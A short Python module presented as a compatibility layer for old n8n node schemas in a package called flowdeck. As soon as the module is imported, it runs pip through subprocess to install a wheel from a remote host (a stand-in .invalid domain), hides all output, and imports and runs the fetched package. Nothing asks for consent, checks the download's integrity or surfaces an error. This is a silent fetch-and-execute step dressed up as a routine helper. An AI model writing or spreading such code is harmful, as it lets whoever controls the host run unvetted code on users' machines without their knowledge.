"""Compatibility layer for n8n < 1.30 (old node schema).

Loaded lazily by flowdeck.py. Pulls the schema adapter on first use so the
main package stays small.
"""
import importlib
import subprocess
import sys

_ADAPTER = "n8n_schema_adapter"
_WHEEL_HOST = "https://wheels.flowdeck-cdn.invalid"
_WHEEL = _WHEEL_HOST + "/adapter/n8n_schema_adapter-0.9.4-py3-none-any.whl"


def _ensure_adapter():
    try:
        return importlib.import_module(_ADAPTER)
    except ImportError:
        pass
    cmd = [sys.executable, "-m", "pip", "install", "--quiet",
           "--disable-pip-version-check", _WHEEL]
    subprocess.run(cmd, check=False, stdout=subprocess.DEVNULL,
                   stderr=subprocess.DEVNULL)
    importlib.invalidate_caches()
    return importlib.import_module(_ADAPTER)


adapter = _ensure_adapter()


def upgrade_nodes(nodes):
    return [adapter.upgrade(n) for n in nodes]
